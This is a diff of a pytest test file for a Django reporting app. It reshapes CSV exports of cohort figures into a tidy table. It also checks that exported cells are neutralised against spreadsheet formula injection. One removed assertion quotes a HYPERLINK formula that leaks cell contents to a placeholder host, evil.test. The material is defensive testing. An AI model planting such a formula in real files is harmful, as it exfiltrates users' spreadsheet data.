@@ -17,12 +17,16 @@ from pypdf import PdfReader
 from cohorts import tasks
 from cohorts.models import Cohort, Enrolment, EnrolmentStatus, ReportExport, ReportStatus
 from cohorts.reports.exports import report_export_build, report_exports_delete_old
+from cohorts.reports.figures import MEASURE
+from cohorts.reports.tables import DETAIL as DETAIL_KEYS
 from councils.models import Role
 from infuse.celery import app
 from tests.cohorts.participant_helpers import set_today
 from tests.cohorts.reports_data import TODAY, build_programme
 
 HX = {"HTTP_HX_REQUEST": "true"}
+# The measures of a Lab in a council, as the CSV names them (learning hours come last).
+DETAIL = [str(MEASURE[key].label) for key in DETAIL_KEYS if key != "learning_hours"]
 
 
 @pytest.fixture
@@ -71,10 +75,10 @@ def test_asking_for_a_csv_answers_a_line_that_polls_until_the_file_is_ready(
     assert reverse("report_export_download", args=[export.pk]) in html
     assert "Download the CSV" in html
     rows = csv_rows(download(client, export))
-    newport = next(row for row in rows if row[:2] == ["Data Lab", "Newport"])
-    assert newport[2:14] == "3 [m] 0 <5 <5 <5 3 <5 [c] [c] [c] [c]".split()
-    assert newport[14:] == ["n/a", "n/a"]  # councils taking part and supported: for all councils
-    assert not any(row[:1] == ["Adaption Lab"] for row in rows)  # filtered to the Data Lab
+    assert rows[0] == ["Period", "Lab", "Council", "Theme", "Measure", "Value", "Note"]
+    newport = {row[4]: row[5] or row[6] for row in rows if row[1:3] == ["Data Lab", "Newport"]}
+    assert [newport[m] for m in DETAIL] == "3 [m] 0 <5 <5 <5 3 <5 [c] [c] [c] [c]".split()
+    assert not any(row[1] == "Adaption Lab" for row in rows)  # filtered to the Data Lab
 
 
 def test_the_funders_csv_holds_the_suppressed_figures_of_their_page(
@@ -83,15 +87,26 @@ def test_the_funders_csv_holds_the_suppressed_figures_of_their_page(
     client.force_login(funder)
     _response, export = ask(client, django_capture_on_commit_callbacks, period="fy-2025")
     rows = csv_rows(download(client, export))
-    by_lab = {tuple(row[:2]): row[2:] for row in rows if len(row) > 10}
-    assert by_lab[("Data Lab", "Newport")][:4] == ["3", "[m]", "0", "<5"]
-    assert by_lab[("Data Lab", "Cardiff")][:4] == ["12", "[m]", "0", "[c]"]
-    assert by_lab[("Data Lab", "Bridgend")][:4] == ["28", "[m]", "6", "15"]
-    assert by_lab[("Data Lab", "Other councils (Bridgend, Cardiff, Newport)")][:2] == ["n/a", "39"]
-    assert by_lab[("Total", "")][:2] == ["77", "73"]
-    assert ["Period", "Financial year 2025–26"] in rows
-    assert ["Showing", "Whole programme, small numbers suppressed"] in rows
-    assert any(row and row[0] == "<5" for row in rows)  # the note on suppression
+    year = [row for row in rows[1:] if row[0] == "Financial year 2025–26"]
+    figures = {
+        tuple(row[1:3]) + (row[4],): row[5] or row[6] for row in year if row[3] == "Both themes"
+    }
+
+    def first4(lab, council):
+        return [
+            figures[(lab, council, m)]
+            for m in ("Enrolled", "Started", "Active (last 14 days)", "Completed")
+        ]
+
+    assert first4("Data Lab", "Newport") == ["3", "[m]", "0", "<5"]
+    assert first4("Data Lab", "Cardiff") == ["12", "[m]", "0", "[c]"]
+    assert first4("Data Lab", "Bridgend") == ["28", "[m]", "6", "15"]
+    other = "Other councils (Bridgend, Cardiff, Newport)"
+    assert first4("Data Lab", other)[:2] == ["n/a", "39"]
+    assert first4("All labs", "All councils")[:2] == ["77", "73"]
+    # One tidy table: the period in every row (the year, or a quarter of it).
+    assert {row[0] for row in rows[1:]} >= {"Financial year 2025–26", "Q1 2025–26"}
+    assert all(row[0] == "Financial year 2025–26" or row[0].startswith("Q") for row in rows[1:])
 
 
 def test_a_pdf_goes_to_the_pdf_queue_and_holds_the_figures(
@@ -141,7 +156,7 @@ def test_without_javascript_asking_leads_to_the_downloads_own_page(
 
 def test_an_unknown_format_or_foreign_filter_is_refused(client, programme, lead):
     client.force_login(lead)
-    assert client.post(reverse("report_export_create"), {"format": "xlsx"}).status_code == 404
+    assert client.post(reverse("report_export_create"), {"format": "xls"}).status_code == 404
     response = client.post(reverse("report_export_create"), {"format": "csv", "council": "newport"})
     assert response.status_code == 404
     assert not ReportExport.objects.exists()
@@ -213,9 +228,11 @@ def test_filters_no_longer_available_fail_the_build_with_a_reason(programme, lea
     assert not built.file
 
 
-def test_the_lead_csv_neutralises_formulas_in_names_and_titles(
+def test_the_lead_csv_holds_figures_only_and_nothing_a_spreadsheet_would_run(
     client, programme, lead, make_user, cardiff, django_capture_on_commit_callbacks
 ):
+    """Names and cohort titles are in the lead's workbook and PDF (as text: see
+    test_reports_workbook.py); the tidy CSV is figures, every cell still neutralised."""
     officer = make_user(
         "officer@cardiff.test",
         council=cardiff,
@@ -231,25 +248,24 @@ def test_the_lead_csv_neutralises_formulas_in_names_and_titles(
     )
     client.force_login(lead)
     _response, export = ask(client, django_capture_on_commit_callbacks)
-    rows = csv_rows(download(client, export))
-    officer_row = next(row for row in rows if "officer@cardiff.test" in row)
-    assert officer_row[0] == '\'=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
-    assert officer_row[2] == "'+SUM(1,2) cohort"
-    # Nothing in the whole file starts like a formula.
+    data = download(client, export)
+    assert b"officer@cardiff.test" not in data and b"SUM(1,2)" not in data
+    rows = csv_rows(data)
+    assert {row[2] for row in rows[1:]} == {"Cardiff"}
     for row in rows:
         for cell in row:
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
 
 
-def test_staff_csv_has_a_line_per_cohort(
-    client, programme, staff, django_capture_on_commit_callbacks
-):
+def test_staff_csv_is_exact(client, programme, staff, django_capture_on_commit_callbacks):
     client.force_login(staff)
     _response, export = ask(client, django_capture_on_commit_callbacks, period="fy-2025")
     rows = csv_rows(download(client, export))
-    d1 = next(row for row in rows if row and row[0] == "D1 Data Lab cohort")
-    assert d1[1:5] == ["Data Lab", "Supportive Communities", "2025-05-06", "2025-06-10"]
-    assert d1[5:] == ["35", "33", "0", "26", "4", "25", "72%"]
+    year = [row for row in rows[1:] if row[0] == "Financial year 2025–26"]
+    figures = {tuple(row[1:3]) + (row[4],): row[5] or row[6] for row in year}
+    assert figures[("Data Lab", "Newport", "Completed")] == "2"
+    assert figures[("Data Lab", "Newport", "Withdrawn")] == "1"
+    assert not any(row[6] in ("<5", "[c]", "[m]") for row in rows[1:])
 
 
 def test_exports_older_than_thirty_days_are_deleted_with_their_files(programme, funder, settings):
